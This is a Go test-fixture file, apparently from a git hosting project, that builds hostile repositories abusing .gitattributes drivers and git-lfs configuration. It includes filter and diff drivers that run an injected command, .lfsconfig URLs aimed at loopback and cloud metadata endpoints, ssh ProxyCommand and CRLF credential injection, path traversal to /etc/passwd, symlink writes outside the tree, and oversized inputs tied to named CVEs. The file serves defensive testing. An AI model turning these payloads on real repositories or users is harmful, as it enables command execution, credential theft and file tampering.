package hostile

import (
	"fmt"
	"strings"

	"github.com/helmdeck/repos/internal/git/gitserver/lfsserver"
)

// attributeCases abuse .gitattributes.
func attributeCases() []Case {
	with := func(attributes string, more ...entry) func(*repo, Bait) {
		return func(r *repo, _ Bait) {
			r.files(append([]entry{{mode: file, name: ".gitattributes", content: attributes}, {mode: file, name: "a", content: "a\n$Id$\n"}}, more...)...)
		}
	}
	// driver tracks a file with settings that define drivers, for clients that include
	// it.
	driver := func(attribute, settings string) func(*repo, Bait) {
		return func(r *repo, b Bait) {
			r.files(entry{mode: file, name: ".gitattributes", content: "* " + attribute + "\n"}, entry{mode: file, name: "a", content: "a\n"},
				entry{mode: file, name: "settings", content: strings.ReplaceAll(settings, "COMMAND", b.command())})
			r.files(entry{mode: file, name: ".gitattributes", content: "* " + attribute + "\n"}, entry{mode: file, name: "a", content: "b\n"},
				entry{mode: file, name: "settings", content: strings.ReplaceAll(settings, "COMMAND", b.command())})
		}
	}
	const include = `git clone -qn "$REPO" w && git -C w show HEAD:settings >settings && `
	var many strings.Builder
	many.WriteString("*")
	for i := range 100_000 {
		fmt.Fprintf(&many, " a%d", i)
	}
	cases := []Case{
		{Name: "attribute-filter", Abuses: "a filter driver that runs at checkout", Effect: Runs, Control: include + `git -C w -c include.path=$PWD/settings checkout -q HEAD -- .; true`,
			build: driver("filter=evil", "[filter \"evil\"]\n\tsmudge = \"COMMAND; cat\"\n\tclean = \"COMMAND; cat\"\n\trequired = true\n")},
		{Name: "attribute-process", Abuses: "a filter driver that stays", Effect: Runs, Control: include + `git -C w -c include.path=$PWD/settings checkout -q HEAD -- .; true`,
			build: driver("filter=evil", "[filter \"evil\"]\n\tprocess = \"COMMAND\"\n\trequired = true\n")},
		{Name: "attribute-diff", Abuses: "a driver for git diff", Effect: Runs, Control: include + `git -C w checkout -q; git -C w -c include.path=$PWD/settings diff HEAD^; true`,
			build: driver("diff=evil", "[diff \"evil\"]\n\tcommand = \"COMMAND;:\"\n")},
		{Name: "attribute-textconv", Abuses: "a converter for git show", Effect: Runs, Control: include + `git -C w checkout -q; git -C w -c include.path=$PWD/settings show; true`,
			build: driver("diff=evil", "[diff \"evil\"]\n\ttextconv = \"COMMAND;:\"\n")},
		{Name: "attribute-merge", Abuses: "a driver for git merge", Effect: Runs, Control: include +
			`cd w && git checkout -q -b side HEAD^ && git config user.name a && git config user.email a@b && echo c >a && git commit -qam c && git -c include.path=$PWD/../settings merge -q origin/main; true`,
			build: driver("merge=evil", "[merge \"evil\"]\n\tdriver = \"COMMAND;:\"\n")},
		{Name: "attribute-encoding", Abuses: "an encoding that the content is not in", build: with("* working-tree-encoding=UTF-16\n", entry{mode: file, name: "b", content: "\xff\xfe\x00"})},
		{Name: "attribute-encoding-unknown", Abuses: "an encoding that is none, or a path", build: with("* working-tree-encoding=../../../../etc/passwd\n")},
		{Name: "attribute-ident", Abuses: "content that changes at checkout: what is on disk is not the blob", build: with("* ident text eol=crlf\n")},
		{Name: "attribute-long", Abuses: "a line of 10 MB", CVE: "CVE-2022-23521", build: with(strings.Repeat("a", 10<<20) + " text\n")},
		{Name: "attribute-many", Abuses: "a hundred thousand attributes in one line", CVE: "CVE-2022-23521", build: with(many.String() + "\n")},
		{Name: "attribute-huge", Abuses: "100 MiB of attributes", CVE: "CVE-2022-23521", build: func(r *repo, _ Bait) {
			r.files(entry{mode: file, name: ".gitattributes", id: r.zeros(100 << 20)}, entry{mode: file, name: "a", content: "a\n"})
		}},
		{Name: "attribute-macro", Abuses: "macros that refer to each other", build: with("[attr]a b\n[attr]b a filter=lfs\n* a\n")},
	}
	for i := range cases {
		cases[i].Need = Checkout
	}
	return cases
}

const lfsClone = `git -c filter.lfs.process='git-lfs filter-process' -c filter.lfs.smudge='git-lfs smudge -- %f' -c filter.lfs.required=true ` +
	`-c lfs.transfer.maxretries=1 clone -q "$REPO" w; true`

// lfsCases attack git-lfs.
func lfsCases() []Case {
	pointer := entry{mode: file, name: "model.bin", content: lfsserver.PointerTo(Secret).String()}
	attributes := entry{mode: file, name: ".gitattributes", content: lfsserver.Attributes}
	// config makes a repository with one large file and a .lfsconfig.
	config := func(content func(Bait) string) func(*repo, Bait) {
		return func(r *repo, b Bait) {
			r.files(attributes, pointer, entry{mode: file, name: ".lfsconfig", content: content(b)})
		}
	}
	url := func(url func(Bait) string) func(*repo, Bait) {
		return config(func(b Bait) string { return "[lfs]\n\turl = " + value(url(b)) + "\n" })
	}
	// text makes a repository with a malformed pointer.
	text := func(content string) func(*repo, Bait) {
		return func(r *repo, _ Bait) {
			r.files(attributes, entry{mode: file, name: "model.bin", content: content})
		}
	}
	const version = "version https://git-lfs.github.com/spec/v1\n"
	cases := []Case{
		{Name: "lfs-url-loopback", Abuses: ".lfsconfig sends git-lfs to loopback", Effect: Asks, Control: lfsClone, build: url(func(b Bait) string { return b.URL + "/bait" })},
		{Name: "lfs-url-localhost", Abuses: ".lfsconfig sends git-lfs to loopback by its name", Effect: Asks, Control: lfsClone, build: url(func(b Bait) string { return b.on("localhost") })},
		{Name: "lfs-url-link-local", Abuses: ".lfsconfig sends git-lfs to the metadata service of a cloud", build: url(func(Bait) string { return "http://169.254.169.254/latest" })},
		{Name: "lfs-url-file", Abuses: ".lfsconfig has git-lfs take objects from a path", build: url(func(b Bait) string { return "file://" + b.Outside })},
		{Name: "lfs-url-ssh-option", Abuses: ".lfsconfig has git-lfs start ssh with an option", build: url(func(b Bait) string {
			return "ssh://-oProxyCommand=" + strings.ReplaceAll(b.command(), " ", "%20") + "/x"
		})},
		{Name: "lfs-url-carriage-return", Abuses: "a line break in .lfsconfig's URL makes the credential helper name another host", CVE: "CVE-2024-53263",
			build: url(func(b Bait) string { return strings.Replace(b.URL, "://", "://a%0d%0ahost=github.com@", 1) + "/bait" })},
		{Name: "lfs-remote", Abuses: ".lfsconfig names the address for one remote", Effect: Asks, Control: lfsClone,
			build: config(func(b Bait) string { return "[remote \"origin\"]\n\tlfsurl = " + value(b.URL+"/bait") + "\n" })},
		{Name: "lfs-transfer-command", Abuses: ".lfsconfig names a program for transfers", build: config(func(b Bait) string {
			return "[lfs]\n\tstandalonetransferagent = evil\n[lfs \"customtransfer.evil\"]\n\tpath = /bin/sh\n\targs = " + value("-c '"+b.command()+"'") + "\n"
		})},
		{Name: "lfs-extension", Abuses: ".lfsconfig names a program for contents", build: config(func(b Bait) string {
			return "[lfs \"extension.evil\"]\n\tclean = " + value(b.command()) + "\n\tsmudge = " + value(b.command()) + "\n\tpriority = 0\n"
		})},
		{Name: "lfs-storage", Abuses: ".lfsconfig has git-lfs keep objects outside", build: config(func(b Bait) string {
			return "[lfs]\n\tstorage = " + value(b.Outside) + "\n"
		})},
		{Name: "lfs-proxy", Abuses: ".lfsconfig names a proxy and switches certificates off", build: config(func(b Bait) string {
			return "[http]\n\tproxy = " + value(b.URL) + "\n\tsslVerify = false\n[core]\n\taskPass = " + value(b.command()) + "\n"
		})},
		{Name: "lfs-pointer-traversal", Abuses: "a pointer's id is a path", build: text(version + "oid sha256:../../../../../../etc/passwd\nsize 1\n")},
		{Name: "lfs-pointer-size", Abuses: "a pointer promises more than any disk has", build: text(version + "oid sha256:" + strings.Repeat("a", 64) + "\nsize 9223372036854775807\n")},
		{Name: "lfs-pointer-negative", Abuses: "a pointer promises less than nothing", build: text(version + "oid sha256:" + strings.Repeat("a", 64) + "\nsize -1\n")},
		{Name: "lfs-pointer-extension", Abuses: "a pointer asks for extensions", build: text(version + "ext-0-evil sha256:" + strings.Repeat("b", 64) + "\noid sha256:" + strings.Repeat("a", 64) + "\nsize 1\n")},
		{Name: "lfs-link", Abuses: "a large file's name is a symlink to outside in the first commit: git-lfs writes through it", CVE: "CVE-2025-26625", build: func(r *repo, b Bait) {
			r.files(attributes, entry{mode: link, name: "model.bin", content: b.Outside + "/new"})
			r.files(attributes, pointer)
		}},
		{Name: "lfs-many", Abuses: "ten thousand pointers", build: func(r *repo, _ Bait) {
			entries := []entry{attributes}
			for i := range 10_000 {
				entries = append(entries, entry{mode: file, name: fmt.Sprintf("models/%05d.bin", i), content: lfsserver.PointerTo(fmt.Sprint(i)).String()})
			}
			r.files(entries...)
		}},
	}
	for i := range cases {
		cases[i].Need = LFS
	}
	return cases
}
